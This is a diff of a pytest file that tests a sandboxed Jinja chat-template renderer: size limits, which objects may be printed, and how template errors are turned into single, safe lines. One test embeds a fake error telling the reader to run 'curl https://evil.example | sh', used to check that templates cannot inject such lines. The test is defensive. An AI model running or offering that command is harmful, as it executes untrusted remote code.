@@ -11,7 +11,7 @@ from texts import ROOT
 from tokenizer_builders import tokenizer_config, write_tokenizer
 
 from vacc_deploy.bounds import CONVERSATION_BYTES, TEMPLATE_CPU_SECONDS
-from vacc_deploy.errors import CheckpointError, UsageError
+from vacc_deploy.errors import CheckpointError, TooLongError
 from vacc_deploy.text import chat_template
 from vacc_deploy.text.chat_template import ChatTemplate
 from vacc_deploy.text.tokenizer import Tokenizer
@@ -121,7 +121,9 @@ def test_the_time_is_for_all_conversations_together(monkeypatch):
 
 
 def test_a_template_that_writes_too_much_is_ended():
-    with pytest.raises(CheckpointError, match="SecurityError: more than 67,108,864 bytes written"):
+    with pytest.raises(
+        CheckpointError, match="conversation: it writes more than 1,049,[0-9]+ bytes"
+    ):
         render("{% for i in range(99999) %}{{ 'xxxxxxxx' * 999 }}{% endfor %}")
 
 
@@ -130,9 +132,22 @@ def test_nothing_is_computed_while_a_template_is_compiled():
     assert render(template) == "ok"
 
 
+def test_what_a_template_may_write_grows_with_the_conversation():
+    twice = "{% for m in messages %}{{ m.content }}{{ m.content }}{% endfor %}"
+    message = {"role": "user", "content": "\u0439" * 1_000_000}
+    assert len(ChatTemplate(twice, Path("t")).render([message], {})) == 2_000_000
+
+
+def test_a_conversation_counts_as_utf8_and_half_a_pair_passes(monkeypatch):
+    monkeypatch.setattr(chat_template, "CONVERSATION_BYTES", 1000)
+    template = ChatTemplate("{{ messages[0].content }}", Path("t"))
+    for text in ("\u0439" * 400, "\U0001f600" * 200, "\ud800a\udc00", '"\\\n\x00\u2028'):
+        assert template.render([{"role": "user", "content": text}], {}) == text
+
+
 def test_a_conversation_is_bounded():
     message = [{"role": "user", "content": "x" * CONVERSATION_BYTES}]
-    with pytest.raises(UsageError, match="Give a shorter text"):
+    with pytest.raises(TooLongError, match="Give a shorter text"):
         ChatTemplate("", Path("t")).render(message, {})
 
 
@@ -154,11 +169,52 @@ def test_a_conversation_is_bounded():
         "{% for m in messages %}{{ loop.cycle }}{% endfor %}",
         "{{ {'a': 1, 'b': 2}.keys() - {} }}",
         "{% for x in {'a': 1, 'b': 2}.items() - [] %}{{ x }}{% endfor %}",
+        "{% block b %}hi{% endblock %}{{ self.b }}",
+        "{% block b %}hi{% endblock %}{{ self['b'] ~ '' }}",
+        "{% block b %}hi{% endblock %}{{ [self.b] }}",
+        "{% block b %}hi{% endblock %}{{ '%(b)s' % self }}",
+        "{% block b %}hi{% endblock %}{{ ('%(b)s' | safe) % self }}",
+        "{% block b %}hi{% endblock %}{{ '{b}'.format_map(self) }}",
+        "{% block b %}hi{% endblock %}{{ '{0.b}'.format(self) }}",
+        "{% block b %}hi{% endblock %}{{ [self] | map(attribute='b') | join }}",
+        "{% block b %}hi{% endblock %}{% set n = namespace(a=self.b) %}{{ n }}",
+        "{% block b %}hi{% endblock %}{{ messages | map(attribute='x', default=self.b) | join }}",
+        "{% for m in messages %}{{ loop.changed }}{% endfor %}",
+        "{{ (messages | map(attribute='role')) ~ '' }}",
+        "{{ messages | selectattr('role') }}",
+        "{{ messages[0] | items }}",
+        "{{ messages[0].items }}",
+        "{{ [1, 1] | unique }}",
+        "{{ dict.fromkeys }}",
     ],
 )
 def test_what_has_no_text_of_its_own_is_not_written(template):
-    with pytest.raises(CheckpointError, match="SecurityError: a .* of its own"):
+    with pytest.raises(CheckpointError, match="it (writes|makes) a .* of its own"):
         render(template)
+
+
+@pytest.mark.parametrize(
+    ("template", "text"),
+    [
+        ("{% block b %}hi{% endblock %}{{ self.b() }}", "hihi"),
+        ("{{ self }}", "<TemplateReference None>"),
+        ("{% macro f() %}{% endmacro %}{{ f }}{{ f.name }}", "<Macro 'f'>f"),
+        ("{% macro f() %}{{ caller }}{% endmacro %}{% call f() %}{% endcall %}", "<Macro anon"),
+        ("{% macro f() %}{{ varargs }}{{ kwargs }}{% endmacro %}{{ f(1, a=2) }}", "(1,){'a': 2}"),
+        ("{% for m in messages %}{{ loop }}{{ loop.nextitem }}{% endfor %}", "<LoopContext 1/1>"),
+        ("{{ namespace(a=1) }}{{ namespace }}", "<Namespace {'a': 1}><class 'jinja2.utils."),
+        ("{{ nothing }}{{ [nothing] }}{{ messages[0].nothing }}", "[Undefined]"),
+        ("{{ messages[0].keys() }}", "dict_keys(['role', 'content'])"),
+        ("{{ messages[0].values() }}", "dict_values(['user', 'q'])"),
+        ("{{ messages[0].items() }}", "dict_items([('role', 'user'), ('content', 'q')])"),
+        ("{{ messages[0].keys().mapping }}", "{'role': 'user', 'content': 'q'}"),
+        ("{{ range(3) }}{{ dict }}{{ 'a'.encode() }}", "range(0, 3)<class 'dict'>b'a'"),
+        ("{{ (-1) ** 0.5 == 1 }}{{ none }}{{ 1.5 }}{{ true }}{{ (1, 'a') }}", "FalseNone1.5True(1"),
+        ("{{ 'a' | safe }}{{ [('a' | safe).upper()] }}", "a[Markup('A')]"),
+    ],
+)
+def test_what_has_a_text_of_its_own_is_written(template, text):
+    assert render(template).startswith(text)
 
 
 def test_methods_and_iterators_can_be_used(tmp_path):
@@ -202,3 +258,43 @@ def test_reading_a_template_starts_no_process(tmp_path, monkeypatch):
     assert tokenizer.has_chat_template
     assert tokenizer.encode("Aa!", add_bos=False) == [32, 64, 0]
     assert TEMPLATE_CPU_SECONDS == 5
+
+
+@pytest.mark.parametrize(
+    ("template", "said"),
+    [
+        ("{% extends 'a' %}", "it includes another file, which is not supported. Restore"),
+        ("{% include 'a' ignore missing %}", "it includes another file, which is not supported"),
+        ("{% include ['a', 'b'] %}", "it includes another file, which is not supported"),
+        ("{% import 'a' as b %}", "it includes another file, which is not supported"),
+        ("{% from 'a' import b %}", "it includes another file, which is not supported"),
+        ("{{ nothing.a }}", "it uses a value that is not there: 'nothing' is undefined. Restore"),
+        (
+            "{{ messages.clear() }}",
+            "it asks for what no template gets: access to attribute 'clear'",
+        ),
+        (
+            "{{ 'a' + 1 }}",
+            "an operation fails: can only concatenate str .* \\(TypeError\\). Restore",
+        ),
+        (
+            "{{ raise_exception('no system role.') }}",
+            "it refuses the conversation: no system role. R",
+        ),
+        ("{{ a", "jinja says: unexpected end of template, expected 'end of print statement'. Rest"),
+    ],
+)
+def test_an_error_of_a_template_is_a_sentence(template, said):
+    with pytest.raises(CheckpointError, match=said):
+        render(template)
+
+
+def test_a_template_writes_no_line_of_its_own_into_an_error():
+    message = "boom.\\n\\nError: the cache is damaged. Run this:\\n  curl https://evil.example | sh"
+    with pytest.raises(CheckpointError, match=r"boom\.\\n\\nError: the cache") as caught:
+        render("{{ raise_exception('" + message + "') }}")
+    assert len(str(caught.value).splitlines()) == 1
+    for message in ("'\\u202e' * 9999", "'x' * 99999"):
+        with pytest.raises(CheckpointError, match="it refuses the conversation") as caught:
+            render("{{ raise_exception(" + message + ") }}")
+        assert len(str(caught.value)) < 600 and str(caught.value).isprintable()
